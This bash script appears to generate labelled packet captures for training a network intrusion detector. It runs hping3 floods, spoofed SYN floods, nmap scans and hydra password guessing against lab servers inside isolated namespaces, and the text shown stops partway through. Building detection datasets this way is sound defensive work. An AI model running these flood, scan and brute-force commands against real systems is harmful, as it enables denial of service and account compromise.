#!/usr/bin/env bash
# Make the labelled LAB captures of fixtures/lab/ (issue 12, item 1): attack variety (UDP/ICMP
# floods, scans fast and slow, IPv6 scan, ping sweep, spoofed SYN flood, password guessing on
# ssh/ftp/telnet/http, HTTP directory brute force, slowloris, DNS and ICMP tunnels, malformed
# packets: LAND, teardrop, ping of death) and benign
# variety (DNS, HTTP, HTTPS, SSH, FTP, SMTP, NTP, idle connections, a login after one typo).
# Every scenario is made twice, by two independent runs with different parameters (ports,
# rates, counts, targets, wordlists, timing): `train` -> fixtures/lab/train/,
# `validation` -> fixtures/lab/validation/. Nine attack scenarios (bruteforce_ssh, _ftp,
# _telnet, _http_basic, slowloris, synflood_spoofed, ping_sweep, dirbrute, scan_udp) and two
# benign ones (benign_ssh, benign_web) also have a SECOND TRAIN RUN, `NAME_2` ->
# fixtures/lab/train/NAME_2.pcap.gz, with parameters that differ from both other runs: more
# independent training runs per attack kind (a kind with a single training run is poorly learned
# from the other kinds), and benign runs that resemble those attacks' legitimate counterparts
# (same addressing and services). These are separate scenarios (`bruteforce_ssh_2` ...), made
# only when named or when no name is given; the validation runs are unchanged.
# The malformed-packet scenarios (`land`, `teardrop`, `ping_of_death`; KDD land / teardrop /
# pod, category dos, scenario `malformed`) were added later with all three runs at once: train,
# validation and `NAME_2` (`land_2`, `teardrop_2`, `ping_of_death_2`), each with its own
# targets, ports, counts, rates, sizes, fragment layout and loopback or veth. hping3 makes the
# LAND SYNs; the overlapping fragments and the oversized fragmented echoes come from a raw-socket
# sender in tools.py (`teardrop`, `pod`; no scapy needed).
# Labels: fixtures/lab/labels.tsv (written by hand, checked with
# bench/training-captures/check-lab.py). Descriptions: fixtures/lab/README.md.
#
# Run as root from anywhere:   bench/training-captures/make-lab.sh [SCENARIO...]
# (no argument: every scenario; otherwise only the named ones, e.g. `udp_flood_closed ssh`;
#  the names are the capture names without the run suffix, see the `scenario` calls below;
#  `NAME` makes the train and validation runs, `NAME_2` only the second train run).
#
# Needs (Debian 12 packages; this script installs nothing):
#   hping3 nmap tcpdump hydra iodine dns2tcp ptunnel-ng slowhttptest openssh-server
#   openssh-client inetutils-telnetd (brings inetutils-inetd) inetutils-telnet python3-pyftpdlib
#   nginx apache2-utils (htpasswd) dnsmasq-base bind9-dnsutils (dig) swaks python3-aiosmtpd
#   sntp lftp curl wget openssl iproute2 iputils-ping passwd (useradd/chpasswd)
# A scenario whose tool is missing is skipped with a message (and its captures are not written).
#
# Safety: every server, client, attack tool and tcpdump runs inside network namespaces made
# here: `nadlab` has only a loopback interface; `nadlab-a` and `nadlab-b` are joined by one
# veth pair (va <-> vb, link-local 169.254.77.0/24 and ULA fd6e:6164:77::/64) and have no other
# interface and no default route. The veth pair is created directly inside the namespaces.
# No packet can leave the machine. Every tool has a bounded count and a `timeout`. A temporary
# local account `nadlab` (password login for ssh/telnet) exists only while the script runs.
#
# Independence: nothing here reads fixtures/pcaps/ or any detection result; parameters were
# chosen before any model saw these captures and were not adjusted afterwards.
set -euo pipefail

ROOT=$(cd "$(dirname "$0")/../.." && pwd)
cd "$ROOT"
NS=nadlab; NSA=nadlab-a; NSB=nadlab-b
OUT=fixtures/lab
PY=/usr/bin/python3                 # Debian python: has pyftpdlib and aiosmtpd
TOOLS=$ROOT/bench/training-captures/tools.py
WORK=$(mktemp -d /tmp/nadlab.XXXXXX); chmod 755 "$WORK"
LABUSER=nadlab; LABPASS='Lab-pass-4711'; MADE_USER=
PIDS=()    # servers, stopped at the end
HOLD=()    # clients that keep connections open until a capture stops
ONLY=" $* "
SKIPPED=()

[ "$(id -u)" = 0 ] || { echo "run as root (network namespaces, raw sockets)" >&2; exit 1; }
have() { command -v "$1" >/dev/null 2>&1 || [ -x "/usr/sbin/$1" ]; }
for t in tcpdump ip curl openssl; do have "$t" || { echo "missing: $t" >&2; exit 1; }; done

nsx() { ip netns exec "$NS" "$@"; }
nsa() { ip netns exec "$NSA" "$@"; }
nsb() { ip netns exec "$NSB" "$@"; }
# bgr NS CMD...: start a long-running process in namespace NS, remember its pid.
bgr() { local n=$1; shift; ip netns exec "$n" "$@" >>"$WORK/bg.log" 2>&1 & PIDS+=($!); }
# bgh NS CMD...: a client holding connections open across the end of a capture.
bgh() { local n=$1; shift; ip netns exec "$n" "$@" >/dev/null 2>&1 & HOLD+=($!); }
stop_pids() { for p in "$@"; do kill "$p" 2>/dev/null || true; done; for p in "$@"; do wait "$p" 2>/dev/null || true; done; }
stop_holds() { stop_pids "${HOLD[@]}"; HOLD=(); }
cleanup() {
  set +e
  stop_holds; stop_pids "${PIDS[@]}"
  [ -n "${TCPDUMP:-}" ] && kill -INT "$TCPDUMP" 2>/dev/null
  for n in "$NS" "$NSA" "$NSB"; do
    for p in $(ip netns pids "$n" 2>/dev/null); do kill "$p" 2>/dev/null; done
  done
  sleep 0.5
  for n in "$NS" "$NSA" "$NSB"; do
    for p in $(ip netns pids "$n" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
    ip netns del "$n" 2>/dev/null
  done
  [ -n "$MADE_USER" ] && userdel "$LABUSER" 2>/dev/null
  cp "$WORK/bg.log" /tmp/nadlab-bg.log 2>/dev/null; cp "$WORK/tcpdump.log" /tmp/nadlab-tcpdump.log 2>/dev/null
  rm -rf "$WORK"
}
trap cleanup EXIT

# scenario NAME TOOL...: true if NAME was asked for (or no names given) and its tools exist.
scenario() {
  local name=$1; shift
  [ "$ONLY" = "  " ] || [[ "$ONLY" == *" $name "* ]] || return 1
  for t in "$@"; do
    have "$t" || { echo "SKIP $name: $t is not installed" >&2; SKIPPED+=("$name ($t missing)"); return 1; }
  done
  echo "== $name" >&2
}
# cap_start DIR NAME [NAMESPACE IFACE] / cap_stop [SECONDS]: one capture per file, full snap
# length, on the loopback of `nadlab` unless told otherwise.
cap_start() {
  CUR=$OUT/$1/$2.pcap
  mkdir -p "$OUT/$1"; rm -f "$CUR" "$CUR.gz"
  ip netns exec "${3:-$NS}" tcpdump -U -n -s 0 -B 16384 -i "${4:-lo}" -w "$CUR" 2>>"$WORK/tcpdump.log" & TCPDUMP=$!
  sleep 1.5
}
cap_stop() {
  sleep "${1:-1.5}"
  kill -INT "$TCPDUMP"; wait "$TCPDUMP" 2>/dev/null || true; TCPDUMP=
  gzip -9 -n -f "$CUR"     # stored as .pcap.gz (nad reads gzip directly)
  echo "captured $CUR.gz: $(stat -c %s "$CUR.gz") bytes" >&2
}

# ------------------------------------------------------------------------- namespaces ----
for n in "$NS" "$NSA" "$NSB"; do ip netns del "$n" 2>/dev/null || true; ip netns add "$n"; done
nsx ip link set lo up; nsa ip link set lo up; nsb ip link set lo up
for n in "$NSA" "$NSB"; do
  ip netns exec "$n" sysctl -qw net.ipv6.conf.all.router_solicitations=0 net.ipv6.conf.default.router_solicitations=0
done
ip -n "$NSA" link add va type veth peer name vb netns "$NSB"
nsa ip addr add 169.254.77.1/24 dev va; nsa ip addr add fd6e:6164:77::1/64 dev va nodad
nsb ip addr add 169.254.77.2/24 dev vb; nsb ip addr add fd6e:6164:77::2/64 dev vb nodad
nsa ip link set va up; nsb ip link set vb up
# Sweep targets behind nadlab-b (which does not forward): a few live hosts in two /24s.
for h in 1 7 19 44 100 201; do nsb ip addr add 169.254.78.$h/32 dev lo; done
for h in 3 12 66 130 250; do nsb ip addr add 169.254.79.$h/32 dev lo; done
for h in 5 61 118 240; do nsb ip addr add 169.254.80.$h/32 dev lo; done    # ping_sweep_2
nsa ip route add 169.254.78.0/24 via 169.254.77.2
nsa ip route add 169.254.79.0/24 via 169.254.77.2
nsa ip route add 169.254.80.0/24 via 169.254.77.2
# Extra client addresses of nadlab-a (secondary; 169.254.77.1 stays the default source): the
# benign clients and background traffic of the veth second train runs.
for h in 5 6 7; do nsa ip addr add 169.254.77.$h/24 dev va; done
sleep 1

# ------------------------------------------------------------------------- content ----
mkdir -p "$WORK/www/css" "$WORK/www/js" "$WORK/www/img" "$WORK/www/private" "$WORK/www/admin" "$WORK/www/staff" \
         "$WORK/www/docs" "$WORK/ftp/pub" "$WORK/home" "$WORK/nginx/tmp"
gen() { yes "$2" | head -c "$1" || true; }   # deterministic, compressible bytes
rnd() { $PY -c "import random,sys;r=random.Random($2);sys.stdout.buffer.write(bytes(r.getrandbits(8) for _ in range($1)))"; }
for n in $(seq 1 20); do
  { echo "<html><head><title>page $n</title><link rel=stylesheet href=css/site.css></head><body>"
    gen $((4000 + n * 2600)) "<p>Lab page $n: quarterly figures, meeting notes and team news.</p>"
    echo "<a href=page$(( n % 20 + 1 )).html>next</a></body></html>"; } > "$WORK/www/page$n.html"
done
{ echo "<html><head><title>lab intranet</title><link rel=stylesheet href=css/site.css><script src=js/app.js></script></head><body>"
  for n in $(seq 1 20); do echo "<a href=page$n.html>page $n</a>"; done
  gen 18000 '<p>Welcome to the lab intranet.</p>'; echo "</body></html>"; } > "$WORK/www/index.html"
gen 21000 'body{margin:0;font-family:sans-serif} .x{color:#333}' > "$WORK/www/css/site.css"
gen 9000  '.gallery img{width:200px}' > "$WORK/www/css/gallery.css"
gen 64000 'function f(a){return a+1};' > "$WORK/www/js/app.js"
gen 120000 'var vendor=function(){return this};' > "$WORK/www/js/vendor.js"
for n in $(seq 1 36); do rnd $((1500 + (n * 977) % 9000)) "$n" > "$WORK/www/img/p$n.png"; done
{ echo "<html><head><title>gallery</title><link rel=stylesheet href=css/site.css><link rel=stylesheet href=css/gallery.css>"
  echo "<script src=js/vendor.js></script><script src=js/app.js></script></head><body class=gallery>"
  for n in $(seq 1 36); do echo "<img src=img/p$n.png alt=photo$n>"; done
  gen 6000 '<p>gallery text</p>'; echo "</body></html>"; } > "$WORK/www/gallery.html"
gen 6000 '<p>private area</p>' > "$WORK/www/private/index.html"
gen 6000 '<p>admin area</p>' > "$WORK/www/admin/index.html"
gen 5000 '<p>staff area</p>' > "$WORK/www/staff/index.html"
gen 14000 '<p>staff report: rota and holidays</p>' > "$WORK/www/staff/report.html"
gen 3000 '<p>staff phone list</p>' > "$WORK/www/staff/phones.html"
gen 300000 'download block 0123456789' > "$WORK/www/big.bin"
gen 40000 'tunnelled file content ' > "$WORK/www/blob40k.txt"
gen 24000 'tunnelled file content ' > "$WORK/www/blob24k.txt"
rnd 16000 77 > "$WORK/www/blob16k.bin"; rnd 48000 78 > "$WORK/www/blob48k.bin"; rnd 24000 79 > "$WORK/www/blob24k.bin"
rnd 64000 80 > "$WORK/www/blob64k.bin"; rnd 32000 81 > "$WORK/www/blob32k.bin"
gen 800 '{"ok":true}' > "$WORK/www/api.json"
for n in 1 2 3 4 5; do gen $((n * 7000)) "ftp report line $n" > "$WORK/ftp/report$n.txt"; done
gen 50000 'archive' > "$WORK/ftp/data.bin"; gen 700 'readme' > "$WORK/ftp/README.txt"
cp "$WORK"/ftp/report*.txt "$WORK/ftp/pub/"
gen 20000 'notes for scp ' > "$WORK/notes.txt"
chmod -R a+rX "$WORK"

# Word lists (deterministic): password guesses and web paths; none contains a real password.
for spec in pass:40:101 pass:60:202 pass:50:303 pass:70:404 pass:22:505 pass:30:606 pass:80:707 pass:120:808 \
            path:450:911 path:340:922 \
            pass:48:1101 pass:90:1202 pass:26:1303 pass:100:1404 path:300:1505 \
            pass:36:1601 pass:24:1602 pass:64:1603 pass:84:1604; do   # second and third train runs
  IFS=: read -r k n s <<<"$spec"; $PY "$TOOLS" words "$k" "$n" "$s" > "$WORK/$k$n.txt"
done

# ------------------------------------------------------------------------- servers ----
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=lab.example \
  -keyout "$WORK/tls.key" -out "$WORK/tls.crt" 2>/dev/null
if ! id "$LABUSER" >/dev/null 2>&1; then
  useradd -M -d "$WORK/home" -s /bin/bash "$LABUSER"; MADE_USER=1
fi
echo "$LABUSER:$LABPASS" | chpasswd
chown "$LABUSER" "$WORK/home"
mkdir -p /run/sshd
ssh-keygen -q -t ed25519 -N '' -f "$WORK/host_ed25519"
ssh-keygen -q -t ed25519 -N '' -f "$WORK/client_ed25519"
cp "$WORK/client_ed25519.pub" "$WORK/authorized_keys"; chmod 644 "$WORK/authorized_keys"
sshd_conf() {   # sshd_conf FILE LISTEN...
  local f=$1; shift
  { for l in "$@"; do echo "ListenAddress $l"; done
    cat <<EOF
HostKey $WORK/host_ed25519
AuthorizedKeysFile $WORK/authorized_keys
PermitRootLogin no
PasswordAuthentication yes
KbdInteractiveAuthentication no
StrictModes no
UsePAM no
MaxAuthTries 6
MaxStartups 40:30:80
PidFile none
EOF
  } > "$f"
}
SSHO=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR)
SSH=(ssh -i "$WORK/client_ed25519" "${SSHO[@]}" -o BatchMode=yes)
SCP=(scp -i "$WORK/client_ed25519" "${SSHO[@]}" -o BatchMode=yes)

if have sshd; then
  sshd_conf "$WORK/sshd_config" 127.0.0.1:22 127.0.0.1:2222 '[::1]:22' 127.0.0.1:22022   # :22022 third runs
  bgr "$NS" /usr/sbin/sshd -D -e -f "$WORK/sshd_config"
  sshd_conf "$WORK/sshd_b_config" 169.254.77.2:22 '[fd6e:6164:77::2]:22' 127.0.0.1:22
  bgr "$NSB" /usr/sbin/sshd -D -e -f "$WORK/sshd_b_config"
fi
if have nginx; then
  have htpasswd && { htpasswd -bcB "$WORK/htpasswd" admin 'Adm1n-lab-77' 2>/dev/null; htpasswd -bB "$WORK/htpasswd" webadmin 'W3b-lab-88' 2>/dev/null; htpasswd -bB "$WORK/htpasswd" jsmith 'Staff-lab-99' 2>/dev/null; htpasswd -bB "$WORK/htpasswd" member 'Memb-lab-11' 2>/dev/null; }
  cat >"$WORK/nginx/nginx.conf" <<EOF
worker_processes 1;
pid $WORK/nginx/nginx.pid;
error_log $WORK/nginx/error.log;
events { worker_connections 2048; }
http {
  include /etc/nginx/mime.types;
  access_log off;
  sendfile on;
  client_body_temp_path $WORK/nginx/tmp/body; proxy_temp_path $WORK/nginx/tmp/proxy;
  fastcgi_temp_path $WORK/nginx/tmp/fcgi; uwsgi_temp_path $WORK/nginx/tmp/uwsgi; scgi_temp_path $WORK/nginx/tmp/scgi;
  server { listen 127.0.0.1:80; listen [::1]:80; root $WORK/www; keepalive_timeout 65;
           location /private/ { auth_basic "lab"; auth_basic_user_file $WORK/htpasswd; } }
  server { listen 127.0.0.1:8080; root $WORK/www; keepalive_timeout 15; keepalive_requests 50;
           location /admin/ { auth_basic "lab admin"; auth_basic_user_file $WORK/htpasswd; } }
  server { listen 127.0.0.21:80; root $WORK/www; keepalive_timeout 0; }
  server { listen 127.0.0.1:8008; root $WORK/www; keepalive_timeout 5; keepalive_requests 20;
           location /staff/ { auth_basic "lab staff"; auth_basic_user_file $WORK/htpasswd; } }
  server { listen 127.0.0.1:8888; root $WORK/www; keepalive_timeout 10; keepalive_requests 30;
           location /members/ { auth_basic "lab members"; auth_basic_user_file $WORK/htpasswd; } }
  server { listen 127.0.0.1:443 ssl; root $WORK/www; keepalive_timeout 30;
           ssl_certificate $WORK/tls.crt; ssl_certificate_key $WORK/tls.key; }
}
EOF
  bgr "$NS" nginx -p "$WORK/nginx" -e "$WORK/nginx/error.log" -c "$WORK/nginx/nginx.conf" -g 'daemon off;'
fi
( cd "$WORK/www" && exec ip netns exec "$NS" openssl s_server -quiet -accept 127.0.0.1:8443 \
    -cert "$WORK/tls.crt" -key "$WORK/tls.key" -WWW >>"$WORK/bg.log" 2>&1 ) & PIDS+=($!)
if have dnsmasq; then
  { for n in www mail smtp imap vpn git wiki intranet files print1 print2 cam1 nas backup ldap \
             jira ci build cdn api auth sso proxy db1 db2 fw; do
      echo "192.0.2.$(( ($(printf '%s' "$n" | cksum | cut -d' ' -f1) % 200) + 20 )) $n.lab.example $n"
    done; } > "$WORK/hosts"
  bgr "$NS" dnsmasq -k -C /dev/null --no-resolv --no-hosts --addn-hosts="$WORK/hosts" \
      --listen-address=127.0.0.53 --bind-interfaces --port=53 --pid-file="$WORK/dnsmasq.pid" \
      --local=/lab.example/ --local=/example.org/ --local=/example.com/ --local=/example.net/ \
      --mx-host=lab.example,mail.lab.example,10 --txt-record=lab.example,"v=spf1 mx -all" \
      --host-record=mail.lab.example,192.0.2.25,2001:db8::25 --cache-size=0 --log-facility=/dev/null
fi
bgr "$NS" $PY "$TOOLS" ntp-server 127.0.0.123 123
if $PY -c 'import pyftpdlib' 2>/dev/null; then
  bgr "$NS" $PY "$TOOLS" ftp-server 127.0.0.1 21 "$WORK/ftp"
  bgr "$NS" $PY "$TOOLS" ftp-server 127.0.0.1 2121 "$WORK/ftp"
  bgr "$NS" $PY "$TOOLS" ftp-server 127.0.0.31 2021 "$WORK/ftp"    # bruteforce_ftp_2
  bgr "$NS" $PY "$TOOLS" ftp-server 127.0.0.1 10021 "$WORK/ftp"    # third runs
fi
if have inetutils-inetd && have telnetd; then
  printf '127.0.0.1:23 stream tcp nowait root /usr/sbin/telnetd telnetd -h\n127.0.0.1:2323 stream tcp nowait root /usr/sbin/telnetd telnetd -h\n127.0.0.1:10023 stream tcp nowait root /usr/sbin/telnetd telnetd -h\n' > "$WORK/inetd.conf"
  # own UTS namespace: the login prompt shows the host name "labhost", not the machine's
  bgr "$NS" unshare --uts sh -c "hostname labhost; exec inetutils-inetd -d -p $WORK/inetd.pid $WORK/inetd.conf"
  printf '169.254.77.2:23 stream tcp nowait root /usr/sbin/telnetd telnetd -h\n' > "$WORK/inetd_b.conf"  # bruteforce_telnet_2
  bgr "$NSB" unshare --uts sh -c "hostname labhost; exec inetutils-inetd -d -p $WORK/inetd_b.pid $WORK/inetd_b.conf"
fi
$PY -c 'import aiosmtpd' 2>/dev/null && bgr "$NS" $PY -m aiosmtpd -n -c aiosmtpd.handlers.Sink -l 127.0.0.25:25
bgr "$NS" $PY "$TOOLS" udp-sink 127.0.0.1 514 0
bgr "$NSB" $PY "$TOOLS" http-server 0.0.0.0 8099 "$WORK/www" 1.1
sleep 2

PAGES=(index.html page1.html page2.html page3.html page4.html page5.html page6.html page7.html
       page8.html page9.html page10.html page11.html page12.html css/site.css js/app.js
       img/p1.png img/p2.png img/p3.png img/p4.png api.json)
# web_visit SRC BASE [CURLOPT...]: one page view: a page and 2-7 of its assets over one
# keep-alive connection, sometimes a missing page (404), sometimes a second connection.
web_visit() {
  local src=$1 base=$2; shift 2
  local urls=("$base/${PAGES[RANDOM % 13]}")
  for _ in $(seq $((2 + RANDOM % 6))); do urls+=("$base/${PAGES[RANDOM % ${#PAGES[@]}]}"); done
  ((RANDOM % 6 == 0)) && urls+=("$base/missing-$RANDOM.html")
  nsx curl -s -o /dev/null --max-time 10 --interface "$src" -A 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0)' "$@" "${urls[@]}" >/dev/null 2>&1 || true
  ((RANDOM % 3 == 0)) && { nsx curl -s -o /dev/null --max-time 10 --interface "$src" "$@" "$base/api.json" >/dev/null 2>&1 || true; }
  return 0
}
# type_slowly TEXT: keystrokes with human-like gaps (for interactive ssh/telnet sessions).
type_slowly() { local s=$1 i; for ((i = 0; i < ${#s}; i++)); do printf '%s' "${s:i:1}"; sleep 0.$((RANDOM % 15 + 4)); done; printf '\r'; }

# ========================================================================= ATTACKS ======
# UDP flood to a CLOSED port (the kernel answers ICMP port unreachable, rate-limited).
# hping3 -2 sends from an incrementing source port, so every datagram is its own flow.
udp_flood_closed() {  # DIR DST DPORT COUNT INTERVAL SIZE
  cap_start "$1" udp_flood_closed
  nsx timeout 30 hping3 -q -2 -p "$3" -d "$6" -c "$4" -i "$5" "$2" >/dev/null 2>&1 || true
  cap_stop
}
if scenario udp_flood_closed hping3; then
  udp_flood_closed train      127.0.0.2 9999 1800 u700  64
  udp_flood_closed validation 127.0.0.7 1900 1400 u1100 300
fi

# UDP flood to an OPEN port: train -> the DNS resolver (dnsmasq, payload is not DNS),
# validation -> a syslog-like sink on 514 that never answers. Background: a few real DNS lookups
# from 127.0.0.41 (train) / 127.0.0.42 (validation).
udp_flood_open() {  # DIR DST DPORT COUNT INTERVAL SIZE BGSRC
  cap_start "$1" udp_flood_open
  ( for k in $(seq 8); do nsx dig +tries=1 +time=1 -b "$7" @127.0.0.53 "www.lab.example" A >/dev/null 2>&1 || true; sleep 1; done ) &
  local bg=$!
  nsx timeout 30 hping3 -q -2 -p "$3" -d "$6" -c "$4" -i "$5" "$2" >/dev/null 2>&1 || true
  wait $bg || true
  cap_stop
}
if scenario udp_flood_open hping3 dig dnsmasq; then
  udp_flood_open train      127.0.0.53 53  1600 u800 40  127.0.0.41
  udp_flood_open validation 127.0.0.1  514 1200 u1300 512 127.0.0.42
fi

# ICMP echo flood (small payloads) and ICMP flood with large payloads (answered).
if scenario icmp_flood hping3 ping; then
  cap_start train icmp_flood
  nsx timeout 30 hping3 -q -1 -d 56 -c 1500 -i u800 127.0.0.2 >/dev/null 2>&1 || true
  cap_stop
  cap_start validation icmp_flood
  nsx timeout 30 ping -q -f -c 1100 -s 24 127.0.0.3 >/dev/null 2>&1 || true
  cap_stop
fi
if scenario icmp_flood_large hping3 ping; then
  cap_start train icmp_flood_large
  nsx timeout 30 hping3 -q -1 -d 4000 -c 500 -i u2000 127.0.0.4 >/dev/null 2>&1 || true
  cap_stop
  cap_start validation icmp_flood_large
  nsx timeout 30 ping -q -f -c 350 -s 9000 127.0.0.5 >/dev/null 2>&1 || true
  cap_stop
fi

# SYN flood with random spoofed sources (hping3 --rand-source) to an open port. The SYN-ACKs
# go nowhere (no route to the random sources inside the namespace). Background: page views
# from 127.0.0.43/44 to the HTTP/1.0 server on 127.0.0.21 (not matched by the rule).
synflood_spoofed() {  # DIR DPORT COUNT INTERVAL BGSRC
  cap_start "$1" synflood_spoofed
  ( for k in 1 2 3 4; do web_visit "$5" http://127.0.0.21; sleep 1.2; done ) &
  local bg=$!
  nsx timeout 30 hping3 -q -S --rand-source -p "$2" -c "$3" -i "$4" 127.0.0.1 >/dev/null 2>&1 || true
  wait $bg || true
  cap_stop
  # The kernel keeps retransmitting SYN-ACKs of the half-open connections for about a minute:
  # let them die out so that none lands in the next capture.
  for _ in $(seq 90); do [ "$(nsx ss -Htn state syn-recv | wc -l)" = 0 ] && break; sleep 1; done
}
if scenario synflood_spoofed hping3; then
  RANDOM=1201; synflood_spoofed train      80  2500 u600  127.0.0.43
  RANDOM=1202; synflood_spoofed validation 443 1800 u1000 127.0.0.44
fi

# Port scans. Raw-socket scans come from a scanner address (-S 127.0.0.66 train,
# 127.0.0.67 validation); the connect scan comes from 127.0.0.1 (the kernel picks it).
if scenario scan_syn nmap; then
  cap_start train scan_syn
  nsx timeout 120 nmap -sS -Pn -n -T4 -p 1-1000 --max-retries 1 -S 127.0.0.66 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  cap_stop
  cap_start validation scan_syn
  nsx timeout 120 nmap -sS -Pn -n -T5 --top-ports 600 --max-retries 0 -S 127.0.0.67 -e lo 127.0.0.21 >/dev/null 2>&1 || true
  cap_stop
fi
if scenario scan_connect nmap; then
  cap_start train scan_connect
  nsx timeout 120 nmap -sT -Pn -n -T4 -p 1-900 --max-retries 1 127.0.0.1 >/dev/null 2>&1 || true
  cap_stop
  cap_start validation scan_connect
  nsx timeout 120 nmap -sT -Pn -n -T5 -p 1-100,400-700,2000-2400,8000-8100 --max-retries 0 127.0.0.1 >/dev/null 2>&1 || true
  cap_stop
fi
if scenario scan_fin_xmas_null nmap; then
  cap_start train scan_fin_xmas_null
  nsx timeout 90 nmap -sF -Pn -n -T4 -p 1-300   --max-retries 0 -S 127.0.0.66 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  nsx timeout 90 nmap -sX -Pn -n -T4 -p 300-600 --max-retries 0 -S 127.0.0.66 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  nsx timeout 90 nmap -sN -Pn -n -T4 -p 600-900 --max-retries 0 -S 127.0.0.66 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  cap_stop
  cap_start validation scan_fin_xmas_null
  nsx timeout 90 nmap -sX -Pn -n -T5 --top-ports 250 --max-retries 0 -S 127.0.0.67 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  nsx timeout 90 nmap -sN -Pn -n -T4 -p 1000-1200 --max-retries 0 -S 127.0.0.67 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  nsx timeout 90 nmap -sF -Pn -n -T5 -p 20-250  --max-retries 0 -S 127.0.0.67 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  cap_stop
fi
# UDP scans, limited port lists (Linux rate-limits the ICMP port unreachable answers).
if scenario scan_udp nmap; then
  cap_start train scan_udp
  nsx timeout 120 nmap -sU -Pn -n -T4 -p 1-200 --max-retries 1 --host-timeout 100s -S 127.0.0.66 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  cap_stop
  cap_start validation scan_udp
  nsx timeout 120 nmap -sU -Pn -n -T5 --top-ports 120 --max-retries 0 --host-timeout 100s -S 127.0.0.67 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  cap_stop
fi
# Slow scans with short port lists: -T2 (train) / --scan-delay (validation).
if scenario scan_slow nmap; then
  cap_start train scan_slow
  nsx timeout 150 nmap -sS -Pn -n -T2 -p 15-40,80,443,8080 --max-retries 0 -S 127.0.0.66 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  nsx timeout 150 nmap -sU -Pn -n -T2 -p 53,67,69,123,137,161,500,514 --max-retries 0 -S 127.0.0.66 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  nsx timeout 150 nmap -sF -Pn -n -T2 -p 20-30 --max-retries 0 -S 127.0.0.66 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  cap_stop
  cap_start validation scan_slow
  nsx timeout 150 nmap -sT -Pn -n --scan-delay 900ms -p 21-25,53,80,110,143,443,993,3306,8080 --max-retries 0 127.0.0.1 >/dev/null 2>&1 || true
  nsx timeout 150 nmap -sS -Pn -n --scan-delay 1500ms -p 1-12 --max-retries 0 -S 127.0.0.67 -e lo 127.0.0.21 >/dev/null 2>&1 || true
  nsx timeout 150 nmap -sX -Pn -n --scan-delay 700ms -p 100-115 --max-retries 0 -S 127.0.0.67 -e lo 127.0.0.1 >/dev/null 2>&1 || true
  cap_stop
fi
# IPv6: train scans ::1 on the loopback; validation scans a ULA host across the veth pair.
if scenario scan_ipv6 nmap; then
  cap_start train scan_ipv6
  nsx timeout 120 nmap -6 -sS -Pn -n -T4 -p 1-700 --max-retries 1 ::1 >/dev/null 2>&1 || true
  cap_stop
  cap_start validation scan_ipv6 "$NSA" va
  nsa timeout 120 nmap -6 -sT -Pn -n -T4 --top-ports 400 --max-retries 0 fd6e:6164:77::2 >/dev/null 2>&1 || true
  nsa timeout 120 nmap -6 -sU -Pn -n -T4 -p 50-130 --max-retries 0 fd6e:6164:77::2 >/dev/null 2>&1 || true
  cap_stop
fi
# Ping sweeps over a /24 behind the gateway 169.254.77.2 (nadlab-b), few hosts alive:
# train: ICMP echo only, -T4; validation: nmap's default host discovery (echo, SYN 443,
# ACK 80, timestamp), -T3, another /24. Captured on the veth.
if scenario ping_sweep nmap; then
  cap_start train ping_sweep "$NSA" va
  nsa timeout 120 nmap -sn -n -PE -T4 169.254.78.0/24 >/dev/null 2>&1 || true
  cap_stop
  cap_start validation ping_sweep "$NSA" va
  nsa timeout 120 nmap -sn -n -T3 169.254.79.0/24 >/dev/null 2>&1 || true
  cap_stop
fi

# Password guessing with hydra from 127.0.0.1 (wrong passwords only; one user). Background:
# a legitimate login of the same service from 127.0.0.45 (train) / 127.0.0.46 (validation).
if scenario bruteforce_ssh hydra sshd ssh; then
  for run in train validation; do
    if [ $run = train ]; then port=22 list=pass40 tasks=4 wait=10 bg=127.0.0.45; else port=2222 list=pass60 tasks=2 wait=6 bg=127.0.0.46; fi
    cap_start $run bruteforce_ssh
    ( sleep 2; nsx "${SSH[@]}" -b $bg -p $port $LABUSER@127.0.0.1 'uptime; ls -l' >/dev/null 2>&1 || true ) &
    b=$!
    nsx timeout 200 hydra -l $LABUSER -P "$WORK/$list.txt" -t $tasks -w $wait -I -q -o /dev/null ssh://127.0.0.1:$port >/dev/null 2>&1 || true
    wait $b || true
    cap_stop
  done
fi
if scenario bruteforce_ftp hydra; then
  for run in train validation; do
    if [ $run = train ]; then port=21 list=pass50 tasks=4 bg=127.0.0.45 user=alice; else port=2121 list=pass70 tasks=8 bg=127.0.0.46 user=alice; fi
    cap_start $run bruteforce_ftp
    ( sleep 2; nsx $PY "$TOOLS" ftp-good 127.0.0.1 $port 1 $RANDOM $bg >/dev/null 2>&1 || true ) &
    b=$!
    nsx timeout 150 hydra -l $user -P "$WORK/$list.txt" -t $tasks -I -q -o /dev/null ftp://127.0.0.1:$port >/dev/null 2>&1 || true
    wait $b || true
    cap_stop
  done
fi
if scenario bruteforce_telnet hydra inetutils-inetd telnetd; then
  for run in train validation; do
    if [ $run = train ]; then port=23 list=pass22 tasks=4; else port=2323 list=pass30 tasks=2; fi
    cap_start $run bruteforce_telnet
    nsx timeout 200 hydra -l $LABUSER -P "$WORK/$list.txt" -t $tasks -w 10 -I -q -o /dev/null telnet://127.0.0.1:$port >/dev/null 2>&1 || true
    cap_stop
  done
fi
if scenario bruteforce_http_basic hydra nginx; then
  for run in train validation; do
    if [ $run = train ]; then port=80 path=/private/ user=admin list=pass80 tasks=4 bg=127.0.0.45
    else port=8080 path=/admin/ user=webadmin list=pass120 tasks=8 bg=127.0.0.46; fi
    cap_start $run bruteforce_http_basic
    ( for k in 1 2 3; do web_visit $bg http://127.0.0.1:$port; sleep 1; done ) &
    b=$!
    nsx timeout 150 hydra -l $user -P "$WORK/$list.txt" -t $tasks -I -q -o /dev/null -s $port 127.0.0.1 http-get $path >/dev/null 2>&1 || true
    wait $b || true
